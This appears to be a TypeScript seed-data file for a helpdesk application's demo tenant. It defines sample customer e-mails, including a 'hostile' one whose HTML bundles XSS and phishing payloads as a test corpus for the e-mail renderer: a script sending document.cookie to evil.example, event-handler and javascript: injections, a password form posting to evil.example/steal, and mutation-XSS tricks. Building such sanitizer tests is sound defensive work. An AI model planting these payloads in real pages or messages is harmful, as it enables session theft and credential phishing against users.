import type { Reply } from '../core/text/reply.ts'

/** An e-mail as it may come in. */
export interface SeedEmail {
  /** Which one it is, for the control plane. */
  name: string
  from: string
  inboxId: string
  subject: string
  body: string
  html?: string
  ticketId?: string
  replies?: Reply[]
}

const row = (n: number) => `<tr><td>${n}</td><td>Item ${n}</td><td>${(n * 7) % 90}.00 EUR</td></tr>`
/** More than 64 kB, as a newsletter with everything in it is: it comes by address. */
const LONG_HTML = `<h1>Your year with us</h1><table>${Array.from({ length: 2_000 }, (_, n) => row(n)).join('')}</table>`
const LONG_TEXT = Array.from({ length: 2_000 }, (_, n) => `${n}  Item ${n}  ${(n * 7) % 90}.00 EUR`).join(
  '\n',
)

/** Everything in an HTML body that must not run, load, send, navigate or cover anything when it is shown. */
export const HOSTILE_HTML = `<!doctype html><html><head>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/background.png)}
.cover{position:fixed;inset:0;z-index:99999}</style>
<script>fetch('https://evil.example/script?'+document.cookie);window.ringdeskWasHacked=true</script>
<script src="https://evil.example/remote.js"></script></head>
<body onload="window.ringdeskWasHacked=true">
<p>Dear agent, please see the attached invoice.</p>
<img src="https://evil.example/pixel.gif?open=1" width="1" height="1" alt="">
<img src=x onerror="window.ringdeskWasHacked=true"><img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">
<svg onload="window.ringdeskWasHacked=true"><script>window.ringdeskWasHacked=true</script>
<image href="https://evil.example/svg.png"/><use href="https://evil.example/sprite.svg#a"/></svg>
<a href="javascript:window.ringdeskWasHacked=true">Open</a> <a href="file:///etc/passwd">File</a>
<a href="data:text/html,<script>window.ringdeskWasHacked=true</script>">Data</a>
<a href="https://evil.example/login" target="_blank" ping="https://evil.example/ping">https://bank.example/login</a>
<form action="https://evil.example/steal" method="post"><input name="password" type="password" autofocus>
<button formaction="javascript:window.ringdeskWasHacked=true">Sign in again</button></form>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.ringdeskWasHacked=true</script>"></iframe>
<object data="https://evil.example/object.swf"></object><embed src="https://evil.example/embed.swf">
<video src="https://evil.example/video.mp4" poster="https://evil.example/poster.png" autoplay></video>
<div style="background:url('https://evil.example/inline.png');position:fixed;inset:0" class="cover">Your session has ended.</div>
<math><mtext><table><mglyph><style><img src=x onerror="window.ringdeskWasHacked=true"></style></mglyph></table></mtext></math>
<template><script>window.ringdeskWasHacked=true</script></template><noscript><p title="</noscript><img src=x onerror=window.ringdeskWasHacked=true>"></noscript>
</body></html>`

/** E-mails of the demonstration tenant; some of them are there to be awkward. */
export const EMAILS: readonly SeedEmail[] = [
  {
    name: 'invoice',
    from: 'ben@acme.example',
    inboxId: 'q_billing',
    subject: 'Invoice 2041',
    body: 'Hello,\n\nwe were charged twice for October. Could you have a look?\n\nBen Ode, ACME',
    html: '<p>Hello,</p><p>we were charged <b>twice</b> for October. Could you have a look?</p><p>Ben Ode, ACME</p>',
    ticketId: 'tk_2041',
    replies: [{ afterMs: 45_000, body: 'Thank you, that was quick.\n\nBen' }],
  },
  {
    name: 'delivery',
    from: 'sofia@iniguez.example',
    inboxId: 'q_support',
    subject: '¿Dónde está mi pedido?',
    body: 'Buenos días:\n\nnuestro pedido 7781 no ha llegado.\n\nSofía Íñiguez',
    replies: [{ afterMs: 60_000, body: 'Ya ha llegado. ¡Gracias!' }],
  },
  {
    name: 'hostile',
    from: 'accounts@evil.example',
    inboxId: 'q_support',
    subject: 'Overdue <script>alert(1)</script>',
    body: 'Dear agent, please see the attached invoice. <b>This is text, not markup.</b>',
    html: HOSTILE_HTML,
  },
  {
    name: 'long',
    from: 'news@shop.example',
    inboxId: 'q_support',
    subject: 'Your year with us',
    body: LONG_TEXT,
    html: LONG_HTML,
  },
  { name: 'empty', from: 'ben@acme.example', inboxId: 'q_support', subject: '', body: '' },
]
